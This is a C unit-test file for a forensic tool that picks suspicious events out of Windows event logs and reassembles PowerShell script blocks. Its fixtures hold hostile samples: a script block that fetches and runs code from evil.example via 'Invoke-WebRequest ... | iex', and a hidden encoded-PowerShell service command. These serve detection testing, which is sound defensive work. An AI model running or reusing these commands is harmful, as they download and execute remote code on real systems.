/* The event-log evidence over logs built in C: the selection table
 * (provider, channel and id must all match; 4624 only as logon type 10),
 * script blocks joined from their parts and handed to the scan, service
 * installs judged against the registry and the system root, the per-kind
 * cap, and the paths the walk hands in. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include <kenshu/core.h>
#include <kenshu/evidence.h>

#define LOGS "/Windows/System32/winevt/Logs/"

static void rec(struct evt_log *l, const char *provider, const char *channel, uint32_t id, uint64_t rid,
		int64_t t, ...)
{
	struct evt_record *r;
	va_list ap;
	const char *name;

	l->rec = xrealloc(l->rec, (l->nrec + 1) * sizeof(*l->rec));
	r = &l->rec[l->nrec++];
	memset(r, 0, sizeof(*r));
	r->record_id = rid;
	r->event_id = id;
	r->provider = xstrdup(provider);
	r->channel = xstrdup(channel);
	r->computer = xstrdup("PLC-HMI-07");
	r->user_sid = xstrdup("S-1-5-18");
	r->time = t;
	va_start(ap, t);
	while ((name = va_arg(ap, const char *))) {
		const char *value = va_arg(ap, const char *);
		r->data = xrealloc(r->data, (r->ndata + 1) * sizeof(*r->data));
		r->data[r->ndata].name = xstrdup(name);
		r->data[r->ndata].value = xstrdup(value);
		r->ndata++;
	}
	va_end(ap);
}

static void log_free(struct evt_log *l)
{
	for (size_t i = 0; i < l->nrec; i++) {
		struct evt_record *r = &l->rec[i];
		free(r->provider);
		free(r->channel);
		free(r->computer);
		free(r->user_sid);
		for (size_t k = 0; k < r->ndata; k++) {
			free(r->data[k].name);
			free(r->data[k].value);
		}
		free(r->data);
	}
	free(l->rec);
	memset(l, 0, sizeof(*l));
}

static void service(struct os_info *os, const char *name, const char *command)
{
	struct autorun_list *l = &os->autoruns;

	l->v = xrealloc(l->v, (l->n + 1) * sizeof(*l->v));
	memset(&l->v[l->n], 0, sizeof(l->v[l->n]));
	l->v[l->n].name = (char *)name;
	l->v[l->n].command = (char *)command;
	l->v[l->n].service = true;
	l->n++;
}

static const char *data(const struct ev_event *e, const char *name)
{
	for (size_t i = 0; i < e->ndata; i++)
		if (!strcmp(e->data[i].name, name))
			return e->data[i].value;
	return NULL;
}

static size_t count(const struct ev_eventlogs *el, enum ev_kind k)
{
	size_t n = 0;

	for (size_t i = 0; i < el->nevents; i++)
		n += el->events[i].kind == k;
	return n;
}

static const struct ev_event *first(const struct ev_eventlogs *el, enum ev_kind k)
{
	for (size_t i = 0; i < el->nevents; i++)
		if (el->events[i].kind == k)
			return &el->events[i];
	return NULL;
}

static void selection_table(void **state)
{
	struct evt_log l = { 0 };
	struct ev_eventlogs el = { 0 };
	struct os_info os = { .system_root = (char *)"/Windows" };

	(void)state;
	rec(&l, "Microsoft-Windows-Eventlog", "System", 104, 10, 1700000000, "SubjectUserName", "vendor",
	    "Channel", "Application", NULL);
	rec(&l, "Microsoft-Windows-Eventlog", "Security", 1102, 11, 1700000100, "SubjectUserName", "vendor", NULL);
	/* 104 from another provider, 1102 in another channel: not cleared logs */
	rec(&l, "Some-App", "System", 104, 12, 1700000200, NULL);
	rec(&l, "Microsoft-Windows-Eventlog", "Application", 1102, 13, 1700000300, NULL);
	rec(&l, "Microsoft-Windows-Security-Auditing", "Security", 4720, 14, 1700000400, "TargetUserName", "svc2",
	    "TargetSid", "S-1-5-21-1-2-3-1005", "SubjectUserName", "vendor", "PrivilegeList", "-", NULL);
	rec(&l, "Microsoft-Windows-Security-Auditing", "Security", 4732, 15, 1700000500, "MemberName", "-",
	    "MemberSid", "S-1-5-21-1-2-3-1005", "TargetUserName", "Administrators", "TargetSid", "S-1-5-32-544",
	    NULL);
	rec(&l, "Microsoft-Windows-Security-Auditing", "Security", 4624, 16, 1700000600, "LogonType", "10",
	    "TargetUserName", "vendor", "IpAddress", "10.0.0.9", NULL);
	rec(&l, "Microsoft-Windows-Security-Auditing", "Security", 4624, 17, 1700000700, "LogonType", "2",
	    "TargetUserName", "op", NULL);
	rec(&l, "microsoft-windows-windows defender", "Microsoft-Windows-Windows Defender/Operational", 1116, 18,
	    1700000800, "Threat Name", "Trojan:Win32/Steel.A", "Path", "file:_C:\\Tools\\x.exe", NULL);
	rec(&l, "Microsoft-Windows-Windows Defender", "Microsoft-Windows-Windows Defender/Operational", 5001, 19,
	    1700000900, NULL);
	rec(&l, "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
	    "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational", 1149, 20, 1700001000, "Param1",
	    "vendor", "Param2", "", "Param3", "192.0.2.7", NULL);
	rec(&l, "Security", "Security", 517, 21, 1000000000, "", "vendor", "", "PLANT", NULL);
	ev_eventlogs_add(&el, LOGS "x.evtx", &l, &os, NULL, NULL, NULL);
	ev_eventlogs_finish(&el);

	assert_int_equal(count(&el, EV_LOG_CLEARED), 3);
	/* newest first within a kind */
	assert_int_equal(first(&el, EV_LOG_CLEARED)->record_id, 11);
	assert_int_equal(el.events[2].record_id, 21);
	assert_string_equal(data(&el.events[2], "1"), "vendor");   /* positional .evt strings */
	assert_int_equal(count(&el, EV_ACCOUNT_CREATED), 1);
	const struct ev_event *e = first(&el, EV_ACCOUNT_CREATED);
	assert_string_equal(data(e, "TargetUserName"), "svc2");
	assert_null(data(e, "PrivilegeList"));   /* only the table's items are kept */
	assert_string_equal(e->log, LOGS "x.evtx");
	assert_string_equal(e->computer, "PLC-HMI-07");
	assert_int_equal(count(&el, EV_GROUP_MEMBER_ADDED), 1);
	assert_int_equal(count(&el, EV_RDP_LOGON), 2);   /* 4624 type 10 and 1149, not type 2 */
	assert_int_equal(first(&el, EV_RDP_LOGON)->event_id, 1149);
	assert_int_equal(count(&el, EV_DEFENDER_DETECTION), 1);   /* provider without case */
	assert_string_equal(data(first(&el, EV_DEFENDER_DETECTION), "Threat Name"), "Trojan:Win32/Steel.A");
	assert_int_equal(count(&el, EV_DEFENDER_PROTECTION_OFF), 1);
	assert_int_equal(el.nevents, 9);
	ev_eventlogs_release(&el);
	log_free(&l);
}

#define PSP "Microsoft-Windows-PowerShell"
#define PSC PSP "/Operational"

static void script_blocks(void **state)
{
	struct evt_log l = { 0 };
	struct ev_eventlogs el = { 0 };
	struct ev_payloads pl = { 0 };
	struct os_info os = { .system_root = (char *)"/Windows" };

	(void)state;
	/* parts out of order, one written twice, and a block with a part missing */
	rec(&l, PSP, PSC, 4104, 32, 1700000002, "MessageNumber", "2", "MessageTotal", "3", "ScriptBlockText",
	    "Invoke-WebRequest http://evil.example/", "ScriptBlockId", "{aa}", "Path", "C:\\t.ps1", NULL);
	rec(&l, PSP, PSC, 4104, 31, 1700000001, "MessageNumber", "1", "MessageTotal", "3", "ScriptBlockText",
	    "$u = 1; ", "ScriptBlockId", "{aa}", "Path", "C:\\t.ps1", NULL);
	rec(&l, PSP, PSC, 4104, 33, 1700000003, "MessageNumber", "3", "MessageTotal", "3", "ScriptBlockText",
	    "x.ps1 | iex", "ScriptBlockId", "{aa}", "Path", "C:\\t.ps1", NULL);
	rec(&l, PSP, PSC, 4104, 34, 1700000003, "MessageNumber", "3", "MessageTotal", "3", "ScriptBlockText",
	    "x.ps1 | iex", "ScriptBlockId", "{aa}", "Path", "C:\\t.ps1", NULL);
	rec(&l, PSP, PSC, 4104, 40, 1700000010, "MessageNumber", "1", "MessageTotal", "2", "ScriptBlockText",
	    "Get-Date", "ScriptBlockId", "{bb}", NULL);
	l.rec[4].recovered = true;
	ev_eventlogs_add(&el, LOGS "Microsoft-Windows-PowerShell%4Operational.evtx", &l, &os, NULL, NULL, &pl);
	ev_eventlogs_finish(&el);

	assert_int_equal(count(&el, EV_POWERSHELL_SCRIPT_BLOCK), 2);
	const struct ev_event *b = &el.events[1], *a = &el.events[0];
	assert_int_equal(a->record_id, 40);   /* newest first */
	assert_true(a->recovered);
	assert_int_equal(a->parts, 1);
	assert_int_equal(a->parts_total, 2);
	assert_int_equal(b->record_id, 31);   /* the block is reported at its first part */
	assert_int_equal(b->parts, 3);
	assert_int_equal(b->parts_total, 3);
	assert_false(b->recovered);
	assert_string_equal(data(b, "ScriptBlockText"), "$u = 1; Invoke-WebRequest http://evil.example/x.ps1 | iex");
	assert_int_equal(b->script_len, strlen("$u = 1; Invoke-WebRequest http://evil.example/x.ps1 | iex"));
	assert_int_equal(pl.n, 2);
	bool found = false;
	for (size_t i = 0; i < pl.n; i++)
		if (!strcmp(pl.v[i].stream, "record 31 (script block {aa})")) {
			found = true;
			assert_int_equal(pl.v[i].len, b->script_len);
			assert_memory_equal(pl.v[i].data, "$u = 1; Invoke", 14);
			assert_string_equal(pl.v[i].path, LOGS "Microsoft-Windows-PowerShell%4Operational.evtx");
			assert_string_equal(pl.v[i].source, "PowerShell script block (event 4104)");
		}
	assert_true(found);
	ev_payloads_release(&pl);
	ev_eventlogs_release(&el);
	log_free(&l);
}

/* One huge block: the event keeps EV_MAX_DATA_TEXT, the payload all of it. */
static void script_block_long(void **state)
{
	struct evt_log l = { 0 };
	struct ev_eventlogs el = { 0 };
	struct ev_payloads pl = { 0 };
	char *big = xmalloc(EV_MAX_DATA_TEXT * 2 + 1);

	(void)state;
	memset(big, 'A', EV_MAX_DATA_TEXT * 2);
	big[EV_MAX_DATA_TEXT * 2] = 0;
	big[EV_MAX_DATA_TEXT - 1] = (char)0xC3;   /* a two-byte character across the cut */
	big[EV_MAX_DATA_TEXT] = (char)0xA9;
	rec(&l, PSP, PSC, 4104, 1, 1, "MessageNumber", "1", "MessageTotal", "1", "ScriptBlockText", big,
	    "ScriptBlockId", "{cc}", NULL);
	ev_eventlogs_add(&el, LOGS "ps.evtx", &l, NULL, NULL, NULL, &pl);
	ev_eventlogs_finish(&el);
	assert_int_equal(el.nevents, 1);
	assert_int_equal(strlen(data(&el.events[0], "ScriptBlockText")), EV_MAX_DATA_TEXT - 1);
	assert_int_equal(el.events[0].script_len, EV_MAX_DATA_TEXT * 2);
	assert_int_equal(pl.n, 1);
	assert_int_equal(pl.v[0].len, EV_MAX_DATA_TEXT * 2);
	free(big);
	ev_payloads_release(&pl);
	ev_eventlogs_release(&el);
	log_free(&l);
}

static void services(void **state)
{
	struct evt_log l = { 0 };
	struct ev_eventlogs el = { 0 };
	struct os_info os = { .system_root = (char *)"/Windows" };

	(void)state;
	service(&os, "VendorUpdater", "\"C:\\Program Files\\Vendor\\upd.exe\"");
	service(&os, "mydrv", "system32\\DRIVERS\\mydrv.sys");
	rec(&l, "Service Control Manager", "System", 7045, 1, 100, "ServiceName", "VendorUpdater", "ImagePath",
	    "\"C:\\Program Files\\Vendor\\upd.exe\"", "ServiceType", "user mode service", "StartType",
	    "auto start", "AccountName", "LocalSystem", NULL);
	/* PsExec's service, since removed */
	rec(&l, "Service Control Manager", "System", 7045, 2, 200, "ServiceName", "PSEXESVC", "ImagePath",
	    "%SystemRoot%\\PSEXESVC.exe", NULL);
	/* display name differs from the key name: the image still identifies it */
	rec(&l, "Service Control Manager", "System", 7045, 3, 300, "ServiceName", "My Driver", "ImagePath",
	    "system32\\DRIVERS\\mydrv.sys", NULL);
	/* Windows' cmd.exe running someone's PowerShell */
	rec(&l, "Service Control Manager", "System", 7045, 4, 400, "ServiceName", "x1", "ImagePath",
	    "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand SQBFAFgA", NULL);
	rec(&l, "Microsoft-Windows-Security-Auditing", "Security", 4697, 5, 500, "ServiceName", "evil",
	    "ServiceFileName", "C:\\Windows\\System32\\Tasks\\evil.exe", NULL);
	ev_eventlogs_add(&el, LOGS "System.evtx", &l, &os, NULL, NULL, NULL);
	ev_eventlogs_finish(&el);

	assert_int_equal(el.nevents, 5);
	const struct ev_event *e = &el.events[4];   /* oldest last */
	assert_string_equal(e->service, "VendorUpdater");
	assert_true(e->service_present);
	assert_false(e->windows_image);
	assert_string_equal(e->image_file, "/Program Files/Vendor/upd.exe");
	e = &el.events[3];
	assert_string_equal(e->service, "PSEXESVC");
	assert_false(e->service_present);
	assert_false(e->windows_image);   /* the system root, not System32 */
	e = &el.events[2];
	assert_true(e->service_present);
	assert_true(e->windows_image);
	assert_string_equal(e->image_file, "/Windows/system32/DRIVERS/mydrv.sys");
	e = &el.events[1];
	assert_false(e->windows_image);
	assert_false(e->service_present);
	e = &el.events[0];
	assert_int_equal(e->event_id, 4697);
	assert_string_equal(e->image, "C:\\Windows\\System32\\Tasks\\evil.exe");
	assert_false(e->windows_image);   /* System32\Tasks is writable by users */
	ev_eventlogs_release(&el);
	log_free(&l);
	free(os.autoruns.v);
}

static void windows_own(void **state)
{
	char *file;

	(void)state;
	assert_true(ev_image_windows_own("\\SystemRoot\\System32\\drivers\\disk.sys", "/Windows", NULL, NULL, &file));
	assert_string_equal(file, "/Windows/System32/drivers/disk.sys");
	free(file);
	assert_true(ev_image_windows_own("%SystemRoot%\\system32\\svchost.exe -k netsvcs", "/Windows", NULL, NULL, NULL));
	assert_true(ev_image_windows_own("C:\\WINNT\\system32\\spoolsv.exe", "/WINNT", NULL, NULL, NULL));
	assert_false(ev_image_windows_own("C:\\WINNT\\system32\\spoolsv.exe", "/Windows", NULL, NULL, NULL));
	assert_false(ev_image_windows_own("C:\\Windows\\Temp\\a.exe", "/Windows", NULL, NULL, NULL));
	assert_false(ev_image_windows_own("C:\\Windows\\System32\\spool\\drivers\\color\\a.exe", "/Windows", NULL, NULL,
					  NULL));
	assert_false(ev_image_windows_own("D:\\tools\\a.exe", "/Windows", NULL, NULL, &file));
	assert_null(file);
	assert_false(ev_image_windows_own("\\\\server\\share\\a.exe", "/Windows", NULL, NULL, NULL));
	assert_false(ev_image_windows_own("C:\\Windows\\System32\\rundll32.exe C:\\Users\\x\\a.dll,Run", "/Windows",
					  NULL, NULL, NULL));
	assert_false(ev_image_windows_own("", "/Windows", NULL, NULL, NULL));
	assert_false(ev_image_windows_own(NULL, "/Windows", NULL, NULL, NULL));
	assert_false(ev_image_windows_own("C:\\Windows\\System32\\a.exe", NULL, NULL, NULL, NULL));
}

/* A log of many events of one kind keeps the last EV_MAX_PER_KIND, and
 * says how many it dropped; other kinds are not affected. */
static void caps(void **state)
{
	struct evt_log l = { 0 };
	struct ev_eventlogs el = { 0 };
	size_t many = 3 * EV_MAX_PER_KIND + 17;

	(void)state;
	for (size_t i = 0; i < many; i++)
		rec(&l, "Microsoft-Windows-Security-Auditing", "Security", 4624, i + 1, (int64_t)i, "LogonType", "10",
		    NULL);
	rec(&l, "Microsoft-Windows-Eventlog", "Security", 1102, many + 1, 5, NULL);
	ev_eventlogs_add(&el, LOGS "Security.evtx", &l, NULL, NULL, NULL, NULL);
	ev_eventlogs_finish(&el);
	assert_int_equal(count(&el, EV_RDP_LOGON), EV_MAX_PER_KIND);
	assert_int_equal(el.seen[EV_RDP_LOGON], many);
	assert_int_equal(el.dropped[EV_RDP_LOGON], many - EV_MAX_PER_KIND);
	assert_int_equal(count(&el, EV_LOG_CLEARED), 1);
	assert_int_equal(el.dropped[EV_LOG_CLEARED], 0);
	/* the newest kept, newest first */
	assert_int_equal(first(&el, EV_RDP_LOGON)->record_id, many);
	assert_int_equal(el.events[el.nevents - 1].record_id, many - EV_MAX_PER_KIND + 1);
	ev_eventlogs_release(&el);
	log_free(&l);
}

/* Records a hostile parser could hand on: no provider, no data, unknown
 * times; nothing selected from them crashes or is invented. */
static void odd_records(void **state)
{
	struct evt_log l = { 0 };
	struct ev_eventlogs el = { 0 };

	(void)state;
	rec(&l, "Service Control Manager", "System", 7045, 1, EVT_TIME_UNKNOWN, NULL);
	rec(&l, PSP, PSC, 4104, 2, EVT_TIME_UNKNOWN, "MessageNumber", "x", NULL);
	rec(&l, PSP, PSC, 4104, 3, 7, "ScriptBlockText", "a", NULL);
	rec(&l, "Service Control Manager", "System", 7045, 4, 9, NULL);
	free(l.rec[3].provider);
	l.rec[3].provider = NULL;
	ev_eventlogs_add(&el, LOGS "System.evtx", &l, NULL, NULL, NULL, NULL);
	ev_eventlogs_finish(&el);
	assert_int_equal(el.nevents, 3);
	assert_int_equal(el.events[0].kind, EV_SERVICE_INSTALLED);
	assert_null(el.events[0].service);
	assert_null(el.events[0].image);
	assert_false(el.events[0].windows_image);
	assert_int_equal(count(&el, EV_POWERSHELL_SCRIPT_BLOCK), 2);   /* no block id: each its own */
	assert_int_equal(el.events[1].time, 7);   /* unknown times last */
	ev_eventlogs_release(&el);
	log_free(&l);
}

static void wanted_paths(void **state)
{
	(void)state;
	assert_true(ev_log_path_wanted("/Windows/System32/winevt/Logs/System.evtx"));
	assert_true(ev_log_path_wanted("/WINDOWS/system32/WINEVT/logs/Microsoft-Windows-PowerShell%4Operational.EVTX"));
	assert_true(ev_log_path_wanted("/WINDOWS/system32/config/SecEvent.Evt"));
	assert_false(ev_log_path_wanted("/Windows/System32/winevt/Logs/old/System.evtx"));
	assert_false(ev_log_path_wanted("/Windows/System32/winevt/Logs/.evtx"));
	assert_false(ev_log_path_wanted("/Users/x/System32/winevt/Logs/a.evtx/b"));
	assert_false(ev_log_path_wanted("/a/b/System32/winevt/Logs/System.evtx"));
	assert_false(ev_log_path_wanted("/Windows/System32/config/SYSTEM"));
	assert_false(ev_log_path_wanted("//System32/config/a.evt"));
	assert_false(ev_log_path_wanted(""));
	assert_true(evidence_wants("/Windows/System32/winevt/Logs/Security.evtx"));
	assert_string_equal(ev_kind_name(EV_RDP_LOGON), "rdp-logon");
	assert_string_equal(ev_defender_resource("file:_C:\\x.exe", "-"), "C:\\x.exe");
	assert_string_equal(ev_defender_resource("containerfile:_C:\\a.zip", "-"), "C:\\a.zip");
	assert_string_equal(ev_defender_resource("C:\\y.exe", "-"), "C:\\y.exe");
	assert_string_equal(ev_defender_resource(":_x", "-"), ":_x");
	assert_string_equal(ev_defender_resource("", "-"), "-");
	assert_string_equal(ev_defender_resource(NULL, "-"), "-");
	assert_string_equal(ev_kind_name(EV_NKINDS), "unknown");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(selection_table),
		cmocka_unit_test(script_blocks),
		cmocka_unit_test(script_block_long),
		cmocka_unit_test(services),
		cmocka_unit_test(windows_own),
		cmocka_unit_test(caps),
		cmocka_unit_test(odd_records),
		cmocka_unit_test(wanted_paths),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
